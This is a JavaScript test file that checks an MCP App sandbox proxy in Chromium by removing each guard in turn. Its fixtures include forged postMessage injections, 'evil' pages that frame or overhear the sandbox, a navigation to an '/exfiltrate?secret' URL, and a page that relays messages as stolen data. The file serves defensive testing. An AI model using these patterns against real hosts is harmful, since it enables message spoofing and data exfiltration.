// What the sandbox proxy stops, in Chromium. Each guard is taken out once, and the assertion that
// `fails` names must then fail.

import assert from "node:assert/strict";
import { NO_ALLOWLIST, pause, said, viewThatSays } from "../stage.mjs";

const hello = { jsonrpc: "2.0", method: "notifications/message", params: { level: "info", data: "forged" } };
const FORGED = "a forged message reached the host";
const forged = (message) => message?.params?.data === "forged";

/** A View that is there, and says so. */
const PLAIN = viewThatSays(`say("here");
  addEventListener("message", (event) => say({ heard: event.data }));`);

/** The proxy takes whoever speaks for the host, and still hears the View. */
const ANYBODY_IS_THE_HOST = {
  from: "if (event.source === outside) fromHost(event);",
  to: "fromHost({ origin: host, data: event.data }); if (event.source === outside) return;",
};

/** Waits until the View is there. */
const settled = (sandbox) => sandbox.saw((message) => said(message) && message.params.data === "here", "the View's first word");

export default [
  {
    name: "a View and its host speak through the proxy",
    async run(stage) {
      const sandbox = await stage.show(PLAIN);
      await settled(sandbox);
      await sandbox.send({ jsonrpc: "2.0", method: "ui/notifications/tool-input", params: { arguments: {} } });
      await sandbox.saw((message) => message.params?.data?.heard?.method === "ui/notifications/tool-input");
      assert.equal((await sandbox.seen())[0].method, "ui/notifications/sandbox-proxy-ready");
      assert.deepEqual((await sandbox.seen())[0].params, {});
    },
  },
  {
    name: "a sibling frame cannot speak as the View or as the host (row 72)",
    guards: [{ from: "event.source === view.contentWindow", to: "true", fails: FORGED }],
    async run(stage) {
      const sandbox = await stage.show(PLAIN);
      await settled(sandbox);
      // An opaque sibling, whose origin is "null" like the View's.
      const html = `<script>parent.frames[0].postMessage(${JSON.stringify(hello)}, "*")</script>`;
      await stage.page.evaluate((html) => {
        const frame = document.createElement("iframe");
        frame.sandbox = "allow-scripts";
        frame.srcdoc = html;
        document.body.append(frame);
      }, html);
      await stage.never(() => sandbox.had(forged), FORGED);
    },
  },
  {
    name: "a foreign page cannot speak to a View as its host",
    guards: [{ from: "if (event.origin !== host) return;", to: "", fails: "a foreign page's View ran" }],
    async run(stage) {
      // Shown by the wrong origin, with the browser's own guard out of the way.
      await stage.open();
      const page = await stage.sandboxPage();
      const headers = Object.fromEntries(page.headers.map(([name, value]) => [name, value.replace(/frame-ancestors .*/, "frame-ancestors *")]));
      const src = stage.harness.serve("sandbox", "/stolen", () => ({ headers, body: page.html }));
      const evil = stage.harness.serve("evil", "/embeds", `<script>
        window.seen = [];
        addEventListener("message", (event) => seen.push(event.data));
        const frame = document.createElement("iframe");
        frame.src = ${JSON.stringify(src)};
        frame.onload = () => frame.contentWindow.postMessage({ jsonrpc: "2.0",
          method: "ui/notifications/sandbox-resource-ready", params: { html: "<script>parent.parent.postMessage('mine', '*')</" + "script>" } }, "*");
        document.documentElement.append(frame);
      </script>`);
      const thief = await stage.context.newPage();
      await thief.goto(evil);
      await stage.never(() => thief.evaluate(() => window.seen.length > 0), "a foreign page's View ran", 400);
      const proxy = thief.frames().find((frame) => frame.url().startsWith(stage.harness.origin("sandbox")));
      assert.equal(proxy.childFrames().length, 0, "a foreign page's View is shown");
    },
  },
  {
    name: "what the proxy says reaches the host's origin only",
    guards: [{ from: "outside.postMessage(message, host)", to: 'outside.postMessage(message, "*")', fails: "a foreign page heard the proxy" }],
    async run(stage) {
      await stage.open();
      const page = await stage.sandboxPage();
      const headers = Object.fromEntries(page.headers.map(([name, value]) => [name, value.replace(/frame-ancestors .*/, "frame-ancestors *")]));
      const src = stage.harness.serve("sandbox", "/overheard", () => ({ headers, body: page.html }));
      const evil = stage.harness.serve("evil", "/listens", `<script>
        window.seen = [];
        addEventListener("message", (event) => seen.push(event.data));
      </script><iframe src="${src}"></iframe>`);
      const thief = await stage.context.newPage();
      await thief.goto(evil);
      await stage.never(() => thief.evaluate(() => window.seen.length > 0), "a foreign page heard the proxy");
    },
  },
  {
    name: "a foreign page cannot show the sandbox",
    guards: [{ header: "content-security-policy", from: "frame-ancestors http://host.localhost", to: "frame-ancestors http://*.localhost", fails: "a foreign page shows the sandbox" }],
    async run(stage) {
      await stage.open();
      const { src } = await stage.serveSandbox();
      const evil = stage.harness.serve("evil", "/shows", `<iframe src="${src}"></iframe>`);
      const thief = await stage.context.newPage();
      await thief.goto(evil);
      const title = () => thief.frames()[1].evaluate(() => document.title).catch(() => "");
      await stage.never(async () => (await title()) === "MCP App", "a foreign page shows the sandbox");
    },
  },
  {
    name: "the sandbox does nothing as a page of its own",
    guards: [{ from: "if (outside === window) return;", to: "", fails: "it ran" }],
    async run(stage) {
      await stage.open();
      const { src } = await stage.serveSandbox();
      const page = await stage.context.newPage();
      await page.goto(src);
      assert.equal(new URL(page.url()).pathname, new URL(src).pathname, "it ran");
    },
  },
  {
    name: "a frame inside the View cannot speak to the proxy",
    guards: [{ from: "event.source === view.contentWindow", to: "true", fails: FORGED }],
    async run(stage) {
      const inner = stage.harness.serve("frame", "/inside", `<script>parent.parent.postMessage(${JSON.stringify(hello)}, "*")</script>`);
      const html = viewThatSays(`say("here"); const frame = document.createElement("iframe");
        frame.onload = () => say("loaded"); frame.src = ${JSON.stringify(inner)}; document.body.append(frame);`);
      const sandbox = await stage.show(html, { csp: { frameDomains: [stage.harness.origin("frame")] }, loopback: true });
      await sandbox.saw((message) => said(message) && message.params.data === "loaded", "the inner frame");
      await stage.never(() => sandbox.had(forged), FORGED);
    },
  },
  {
    name: "a View cannot say what only the proxy says",
    guards: [{ from: "if (!isReserved(data)) tell(data);", to: "tell(data);", fails: "the View spoke as the proxy" }],
    async run(stage) {
      const html = viewThatSays(`for (const method of ["sandbox-proxy-ready", "sandbox-resource-ready", "sandbox-new"])
        parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/" + method, params: { html: "x" } }, "*");
        say("here");`);
      const sandbox = await stage.show(html);
      await settled(sandbox);
      const reserved = (await sandbox.seen()).filter((message) => message.method?.startsWith("ui/notifications/sandbox-"));
      assert.equal(reserved.length, 1, "the View spoke as the proxy");
    },
  },
  {
    name: "what the host says to the proxy does not reach the View",
    guards: [{ from: "if (isReserved(data)) return;", to: "", fails: "the View heard what was for the proxy" }],
    async run(stage) {
      const sandbox = await stage.show(PLAIN);
      await settled(sandbox);
      await sandbox.send({ jsonrpc: "2.0", method: "ui/notifications/sandbox-later", params: {} });
      await sandbox.send({ jsonrpc: "2.0", method: "ping", id: 1 });
      await sandbox.saw((message) => message.params?.data?.heard?.method === "ping", "the ping");
      assert.ok(!(await sandbox.seen()).some((message) => message.params?.data?.heard?.method?.includes("sandbox-")), "the View heard what was for the proxy");
    },
  },
  {
    name: "the page is taken once",
    guards: [{ from: "if (view === null && typeof data.params?.html", to: "if (typeof data.params?.html", fails: "the first View's answer did not happen" }],
    async run(stage) {
      const sandbox = await stage.show(PLAIN);
      await settled(sandbox);
      const html = viewThatSays(`say("second");`);
      await sandbox.send({ jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html } });
      await stage.never(() => sandbox.had((message) => message.params?.data === "second"), "a second page was shown");
      await sandbox.send({ jsonrpc: "2.0", method: "ping", id: 1 });
      await sandbox.saw((message) => message.params?.data?.heard?.method === "ping", "the first View's answer", 2000);
    },
  },
  {
    name: "a View cannot give the proxy a page, or anything, in its host's place (row 71)",
    guards: [
      { ...ANYBODY_IS_THE_HOST, fails: "the View heard itself as its host" },
      { ...ANYBODY_IS_THE_HOST, also: [
        { from: "if (view === null && typeof data.params?.html", to: "if (typeof data.params?.html" },
        { from: "if (loads > 1)", to: "if (false)" },
      ], fails: "the View's own page was shown" },
    ],
    async run(stage) {
      const page = viewThatSays(`say("forged");`);
      const html = viewThatSays(`say("here");
        addEventListener("message", ({ data }) => { if (data.method.endsWith("tool-result")) say({ heard: true }); });
        parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: { html: ${JSON.stringify(page).replaceAll("</", "<\\/")} } }, "*");
        parent.postMessage({ jsonrpc: "2.0", method: "ui/notifications/tool-result", params: {} }, "*");`);
      const sandbox = await stage.show(html);
      await settled(sandbox);
      await stage.never(() => sandbox.had(forged), "the View's own page was shown");
      assert.ok(!(await sandbox.had((message) => message.params?.data?.heard)), "the View heard itself as its host");
    },
  },
  {
    name: "a View that goes to another page loses the channel before that page is there",
    guards: [{ from: 'close("the View\'s frame left its document")', to: "undefined", fails: "the new page spoke" }],
    async run(stage) {
      // The new page never finishes loading, so there is no second load event to go by.
      let hanging;
      stage.harness.serve("frame", "/hang", (_, __, response) => { hanging = response; });
      const target = stage.harness.serve("frame", "/next", `<script>
        addEventListener("message", (event) => parent.postMessage({ jsonrpc: "2.0", method: "notifications/message", params: { level: "info", data: { stolen: event.data } } }, "*"));
        parent.postMessage(${JSON.stringify(hello)}, "*");</script><img src="/hang">`);
      const html = viewThatSays(`say("here"); addEventListener("message", () => { location = ${JSON.stringify(target)}; });`);
      const sandbox = await stage.show(html, { csp: { frameDomains: [stage.harness.origin("frame")] }, loopback: true });
      await settled(sandbox);
      await sandbox.send({ jsonrpc: "2.0", method: "ping", id: 1 });
      await stage.until(() => hanging, "the new page's request", 500).catch(() => {});
      await pause(200);
      await sandbox.send({ jsonrpc: "2.0", method: "ping", id: 2 });
      const spoke = () => sandbox.had((message) => forged(message) || message.params?.data?.stolen);
      await stage.never(spoke, "the new page spoke").finally(() => hanging?.end());
      assert.ok(await sandbox.had((message) => message.mcpAppsSandbox === "closed"), "the host was not told");
    },
  },
  {
    name: "a second load of the View's frame ends the session",
    guards: [{ from: 'if (loads > 1) close("the View\'s frame loaded a second document");', to: "", fails: "the end of the session did not happen" }],
    async run(stage) {
      // document.open() takes every listener of the window away, the proxy's own among them.
      const target = stage.harness.serve("frame", "/second", `<script>parent.postMessage(${JSON.stringify(hello)}, "*");
        setInterval(() => parent.postMessage(${JSON.stringify(hello)}, "*"), 50);</script>`);
      const html = viewThatSays(`say("here"); setTimeout(() => { document.open();
        document.write("<script>location = " + ${JSON.stringify(JSON.stringify(target))} + "</" + "script>"); }, 50);`);
      const sandbox = await stage.show(html, { csp: { frameDomains: [stage.harness.origin("frame")] }, loopback: true });
      await settled(sandbox);
      await sandbox.saw((message) => message.mcpAppsSandbox === "closed", "the end of the session", 2000);
      const before = (await sandbox.seen()).length;
      await pause(200);
      assert.equal((await sandbox.seen()).length, before, "the second page spoke");
    },
  },
  {
    name: "a View cannot go to an origin it did not declare",
    guards: [{ header: "content-security-policy", from: "frame-src 'none'", to: "frame-src *", also: [NO_ALLOWLIST], fails: "an undeclared origin was reached" }],
    async run(stage) {
      let hits = 0;
      const target = stage.harness.serve("evil", "/exfiltrate", () => { hits += 1; return "x"; });
      const sandbox = await stage.show(viewThatSays(`say("here"); location = ${JSON.stringify(target)} + "?secret";`));
      await settled(sandbox);
      await stage.never(() => hits > 0, "an undeclared origin was reached");
    },
  },
  {
    name: "a View cannot take the window with it (row 71)",
    guards: [{ from: '"sandbox":"allow-scripts allow-forms"', to: '"sandbox":"allow-scripts allow-forms allow-top-navigation"',
      also: [{ attribute: "sandbox", from: "allow-scripts", to: "allow-scripts allow-top-navigation" }], fails: "the View took the window" }],
    async run(stage) {
      const target = stage.harness.serve("evil", "/top", "x");
      const html = viewThatSays(`say("here"); addEventListener("message", () => say({ tried: attempt(() => { top.location = ${JSON.stringify(target)}; return "went"; }) }));`);
      const sandbox = await stage.show(html);
      await settled(sandbox);
      const home = stage.page.url();
      await sandbox.send({ jsonrpc: "2.0", method: "ping", id: 1 });
      await stage.never(() => stage.page.url() !== home, "the View took the window", 500);
      const tried = await sandbox.saw((message) => message.params?.data?.tried);
      assert.equal(tried.params.data.tried, "SecurityError");
    },
  },
];
